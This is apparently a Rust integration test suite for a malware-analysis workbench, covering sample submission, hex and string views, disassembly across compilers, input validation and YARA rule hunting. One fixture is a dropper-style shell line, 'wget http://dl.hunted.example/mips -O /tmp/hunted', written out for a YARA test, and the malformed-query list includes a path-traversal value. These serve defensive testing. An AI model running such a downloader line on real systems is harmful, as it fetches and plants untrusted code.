//! A sample's bytes, texts and instructions, as the workbench of the UI asks for them: over the
//! whole program, for programs that real compilers made, and in a real browser.

use crate::support::program::{Ukai, binary};
use crate::support::tool::{succeeds, tool};
use crate::support::wait_for;
use serde_json::Value;
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use tempfile::TempDir;
use ukai_model::Sha256;

/// What is searched for, once in ASCII and once in UTF-16.
const MARK: &str = "A text that the workbench finds";

/// A program that does nothing, and has something to find in it.
const SOURCE: &str = r#"
const char narrow[] = "A text that the workbench finds: narrow";
const char wide[] = "A\0 \0t\0e\0x\0t\0 \0t\0h\0a\0t\0 \0t\0h\0e\0 \0w\0o\0r\0k\0b\0e\0n\0c\0h\0"
    " \0f\0i\0n\0d\0s\0:\0 \0w\0i\0d\0e\0";
int twice(int n) { return n * 2; }
int main(int count, char **words)
{
    return words[0] == narrow || words[0] == wide ? twice(count) : 0;
}
"#;

/// Compilers, the programs that show what they made, and how ukai calls the processor.
const COMPILERS: &[(&str, &str, &str)] = &[
    ("gcc", "objdump", "x86-64"),
    ("arm-linux-gnueabi-gcc", "arm-linux-gnueabi-objdump", "arm"),
    ("mips-linux-gnu-gcc", "mips-linux-gnu-objdump", "mips"),
    ("mipsel-linux-gnu-gcc", "mipsel-linux-gnu-objdump", "mips"),
    ("x86_64-w64-mingw32-gcc", "x86_64-w64-mingw32-objdump", "x86-64"),
    ("i686-w64-mingw32-gcc", "i686-w64-mingw32-objdump", "x86"),
];

impl Ukai {
    /// Hands in a sample as a person does, and waits for its analysis.
    fn submit(&self, folder: &Path, bytes: &[u8]) -> String {
        std::fs::write(folder.join("submitted"), bytes).expect("a file");
        let said = succeeds(
            folder,
            "curl",
            &[
                "-sS",
                "--fail-with-body",
                "-H",
                &format!("Authorization: Bearer {}", self.token()),
                "--data-binary",
                "@submitted",
                &format!("{}/api/samples?name=submitted", self.url()),
            ],
            "",
        );
        let sha256 = Sha256::of(bytes).to_string();
        assert!(said.contains(&sha256), "{said}");
        wait_for("the analysis", Duration::from_mins(1), || {
            let page = self.get(&format!("/api/samples/{sha256}"));
            (!page["analyses"].as_array()?.is_empty() && page["job"].is_null()).then_some(())
        });
        sha256
    }

    /// Status and body of a GET, with these headers.
    fn asks(&self, folder: &Path, path: &str, header: &str) -> (u16, Value) {
        let url = format!("{}{path}", self.url());
        let output =
            tool(folder, "curl", &["-sS", "-g", "-w", "\n%{http_code}", "-H", header, &url], "");
        let text = String::from_utf8(output.stdout).expect("UTF-8");
        let (body, status) = text.rsplit_once('\n').expect("a status");
        (status.parse().expect("a number"), serde_json::from_str(body).unwrap_or_default())
    }

    /// All bytes of a sample or layer, page by page.
    fn all_bytes(&self, sha256: &str, layer: &str) -> Vec<u8> {
        let mut bytes = Vec::new();
        loop {
            let offset = bytes.len();
            let seen = self
                .get(&format!("/api/samples/{sha256}/bytes?offset={offset}&count=16384{layer}"));
            let part = hex::decode(seen["hex"].as_str().expect("digits")).expect("digits");
            assert_eq!(seen["offset"], offset);
            assert!(part.len() <= 16_384, "no page is longer than is promised");
            bytes.extend(&part);
            if part.is_empty() || bytes.len() as u64 >= seen["size"].as_u64().expect("a length") {
                return bytes;
            }
        }
    }
}

fn compiled(folder: &Path, compiler: &str) -> Vec<u8> {
    std::fs::write(folder.join("a.c"), SOURCE).expect("a file");
    succeeds(folder, compiler, &["-O1", "-o", "a.program", "a.c"], "");
    std::fs::read(folder.join("a.program")).expect("a program")
}

/// Addresses of the instructions of a function, as binutils reads them.
fn addresses(folder: &Path, objdump: &str, function: &str) -> Vec<u64> {
    let text = succeeds(folder, objdump, &["-d", "--no-show-raw-insn", "a.program"], "");
    // Windows' compilers for 32 bits put a line before names.
    let begins = [format!("<{function}>:"), format!("<_{function}>:")];
    text.lines()
        .skip_while(|line| !begins.iter().any(|begin| line.ends_with(begin)))
        .skip(1)
        // Behind the code stand constants that it loads.
        .take_while(|line| !line.is_empty() && !line.contains(".word"))
        .filter_map(|line| u64::from_str_radix(line.trim().split(':').next()?, 16).ok())
        .collect()
}

#[test]
fn programs_of_real_compilers_are_shown_as_they_are() {
    let ukai = Ukai::start();
    let folder = TempDir::new().expect("a temporary folder");
    for (compiler, objdump, machine) in COMPILERS {
        let program = compiled(folder.path(), compiler);
        let sha256 = ukai.submit(folder.path(), &program);
        assert!(ukai.all_bytes(&sha256, "") == program, "{compiler}: other bytes");

        // Both writings are found, where they stand.
        let found = ukai.get(&format!("/api/samples/{sha256}/texts?find=a%20TEXT%20that%20the"));
        let texts = found["texts"].as_array().expect("a list");
        for (end, wide) in [(": narrow", false), (": wide", true)] {
            let text = format!("{MARK}{end}");
            let one = texts.iter().find(|one| one["text"] == text.as_str());
            let one = one.unwrap_or_else(|| panic!("{compiler}: no {text} in {found}"));
            assert_eq!(one["wide"], wide);
            let stored: Vec<u8> = if wide {
                text.encode_utf16().flat_map(u16::to_le_bytes).collect()
            } else {
                text.into_bytes()
            };
            let at = one["offset"].as_u64().expect("a place") as usize;
            assert_eq!(&program[at..at + stored.len()], stored, "{compiler}");
        }

        // The entry point, and from there on to any other function.
        let code = ukai.get(&format!("/api/samples/{sha256}/code?count=1"));
        assert_eq!(code["architecture"], *machine, "{compiler}");
        let first = &code["instructions"][0];
        let place = |one: &Value, key: &str| one[key].as_u64().expect("a number");
        // A program's text is loaded in one piece.
        let base = place(first, "address").wrapping_sub(place(first, "offset"));
        // binutils shows addresses with the image's own base, ukai without.
        let image = if compiler.contains("w64") {
            let headers = succeeds(folder.path(), objdump, &["-p", "a.program"], "");
            let line = headers.lines().find(|line| line.starts_with("ImageBase")).expect("a base");
            let digits = line.split_whitespace().nth(1).expect("digits");
            u64::from_str_radix(digits, 16).expect("digits")
        } else {
            0
        };
        let expected: Vec<u64> =
            addresses(folder.path(), objdump, "main").iter().map(|at| at - image).collect();
        let from = expected.first().expect("main has instructions").wrapping_sub(base);
        let count = expected.len();
        let path = format!("/api/samples/{sha256}/code?offset={from}&count={count}");
        let code = ukai.get(&path);
        let ours = code["instructions"].as_array().expect("a list");
        let places: Vec<u64> = ours.iter().map(|one| place(one, "address")).collect();
        assert_eq!(places, expected, "{compiler}");
        for one in ours {
            let at = place(one, "offset") as usize;
            let bytes = hex::decode(one["bytes"].as_str().expect("digits")).expect("digits");
            assert_eq!(&program[at..at + bytes.len()], bytes, "{compiler}");
            assert!(!one["text"].as_str().expect("a text").starts_with(".byte"), "{one}");
        }
        if *compiler == "x86_64-w64-mingw32-gcc" {
            let texts = ["imphash", "KERNEL32.dll", ".rdata"];
            look(&ukai, &format!("/samples/{sha256}"), &texts);
        }
    }
}

#[test]
fn layers_limits_and_wrong_questions() {
    let ukai = Ukai::start();
    let folder = TempDir::new().expect("a temporary folder");
    let program = compiled(folder.path(), "arm-linux-gnueabi-gcc");
    succeeds(folder.path(), "tar", &["czf", "a.tgz", "a.c", "a.program"], "");
    let archive = std::fs::read(folder.path().join("a.tgz")).expect("an archive");
    let sha256 = ukai.submit(folder.path(), &archive);
    let page = ukai.get(&format!("/api/samples/{sha256}"));
    let members = page["analyses"][0]["members"].as_array().expect("members");
    let own = Sha256::of(&program).to_string();
    let layer = members.iter().position(|one| one["sha256"] == own.as_str()).expect("it is in it");
    assert!(ukai.all_bytes(&sha256, &format!("&layer={layer}")) == program);
    let code = ukai.get(&format!("/api/samples/{sha256}/code?layer={layer}"));
    assert_eq!(code["architecture"], "arm");
    assert_eq!(code["instructions"].as_array().map(Vec::len), Some(100), "unless told otherwise");
    assert!(ukai.all_bytes(&sha256, "") == archive);

    // Texts page by page are the texts at once.
    let texts = |path: &str| ukai.get(&format!("/api/samples/{sha256}/texts?layer={layer}{path}"));
    let all = texts("&count=500");
    let mut paged = Vec::new();
    let mut next = Some(0);
    while let Some(offset) = next {
        let page = texts(&format!("&count=7&offset={offset}"));
        paged.extend(page["texts"].as_array().expect("a list").iter().cloned());
        next = page["next"].as_u64().filter(|_| paged.len() < 500);
    }
    paged.truncate(500);
    assert_eq!(all["texts"], Value::from(paged));

    // What is too much is cut to what is promised; what is nothing is told.
    let view = |path: &str| ukai.get(&format!("/api/samples/{sha256}/{path}"));
    assert_eq!(view("bytes?count=0")["hex"], "");
    assert_eq!(view("bytes?offset=18446744073709551615")["hex"], "");
    assert_eq!(view("code")["reason"], "it is no program for a processor");
    let code = view(&format!("code?layer={layer}&count=4294967295"));
    assert_eq!(code["instructions"].as_array().map(Vec::len), Some(500));
    let behind = view(&format!("code?layer={layer}&offset=18446744073709551615"));
    assert_eq!(behind["reason"], "the offset lies behind the end");

    let token = format!("Authorization: Bearer {}", ukai.token());
    let ask = |path: &str, header: &str| ukai.asks(folder.path(), path, header);
    for what in ["bytes", "texts", "code"] {
        let path = |rest: &str| format!("/api/samples/{sha256}/{what}{rest}");
        for wrong in [
            "?offset=-1",
            "?offset=0x10",
            "?offset=18446744073709551616",
            "?count=many",
            "?count=-5",
            "?count=4294967296",
            "?layer=-1",
            "?layer=4294967296",
            "?layer=..%2f..",
            "?colour=red",
            "?offset=1&offset=2",
        ] {
            let (status, said) = ask(&path(wrong), &token);
            assert_eq!(status, 400, "{what}{wrong}: {said}");
            assert!(said["error"].is_string() && said["remedy"].is_string(), "{said}");
        }
        for missing in ["?layer=99", "?layer=4294967295"] {
            let (status, said) = ask(&path(missing), &token);
            assert_eq!(status, 404, "{what}{missing}: {said}");
            assert!(said["remedy"].is_string(), "{said}");
        }
        let other = format!("/api/samples/{}/{what}", "0".repeat(64));
        assert_eq!(ask(&other, &token).0, 404);
        assert_eq!(ask(&format!("/api/samples/nonsense/{what}"), &token).0, 400);
        assert_eq!(ask(&path(""), "Accept: */*").0, 401, "only who is logged in");
    }
    // Only texts are searched.
    let long = "x".repeat(256);
    for wrong in [format!("texts?find={long}"), "bytes?find=x".into(), "code?find=x".into()] {
        let (status, said) = ask(&format!("/api/samples/{sha256}/{wrong}"), &token);
        assert_eq!(status, 400, "{wrong}: {said}");
    }

    // And as a person sees it.
    let marks = program.windows(MARK.len()).position(|window| window == MARK.as_bytes());
    let at = marks.expect("it is in there");
    let row = at - at % 16;
    let line = format!("{row:08x}");
    let base = format!("/samples/{sha256}/bytes?layer={layer}");
    look(&ukai, &format!("{base}&view=bytes&offset=0x{row:x}"), &[line.as_str()]);
    look(&ukai, &format!("{base}&view=texts&find=workbench"), &[&format!("0x{at:x}"), MARK]);
    look(&ukai, &format!("{base}&view=code"), &["arm"]);
    look(&ukai, &format!("/samples/{sha256}/bytes?view=code"), &[]);
}

#[test]
fn a_new_rule_is_tried_on_all_that_is_kept() {
    let ukai = Ukai::start();
    let folder = TempDir::new().expect("a temporary folder");
    let script = b"#!/bin/sh\nwget http://dl.hunted.example/mips -O /tmp/hunted\n";
    std::fs::write(folder.path().join("a.sh"), script).expect("a file");
    succeeds(folder.path(), "tar", &["czf", "a.tgz", "a.sh"], "");
    let archive = std::fs::read(folder.path().join("a.tgz")).expect("an archive");
    let plain = ukai.submit(folder.path(), script);
    let packed = ukai.submit(folder.path(), &archive);
    ukai.submit(folder.path(), b"nothing of that kind");
    let rules = folder.path().join("new.yar");
    std::fs::write(&rules, "rule hunted { strings: $a = \"-O /tmp/hunted\" condition: $a }\n")
        .expect("a file");
    let configuration = ukai.configuration().display().to_string();
    let rules = rules.display().to_string();
    let hunt = |more: &[&str]| -> Vec<Value> {
        let arguments =
            [&["yara", "hunt", "--json", "--config", &configuration, "--rules", &rules], more];
        let output = tool(folder.path(), binary(), &arguments.concat(), "");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let text = String::from_utf8(output.stdout).expect("UTF-8");
        text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
    };
    let found = |lines: &[Value]| -> Vec<String> {
        let digests = lines.iter().filter_map(|line| line["sha256"].as_str());
        let mut digests: Vec<String> = digests.map(str::to_owned).collect();
        digests.sort();
        digests
    };
    let lines = hunt(&[]);
    assert_eq!(found(&lines), std::slice::from_ref(&plain));
    let end = lines.last().expect("a summary");
    assert_eq!((&end["samples"], &end["failed"]), (&Value::from(3), &Value::from(0)), "{end}");
    assert_eq!(end["rules"], serde_json::json!({ "new/hunted": 1 }));
    let mut both = [plain, packed];
    both.sort();
    assert_eq!(found(&hunt(&["--inside"])), both, "in an archive, too");
}

/// Opens a page in a browser, in both languages, on a desk and on a phone: it must be sound, and
/// show these texts.
fn look(ukai: &Ukai, path: &str, texts: &[&str]) {
    let output = Command::new("npm")
        .args(["run", "test:page", "--silent"])
        .current_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/web"))
        .env("UKAI_URL", ukai.url())
        .env("UKAI_TOKEN", ukai.token())
        .env("UKAI_PAGE", path)
        .env("UKAI_TEXTS", texts.join("\n"))
        .output()
        .expect("npm runs");
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{path}: {text}\n{}", String::from_utf8_lossy(&output.stderr));
}
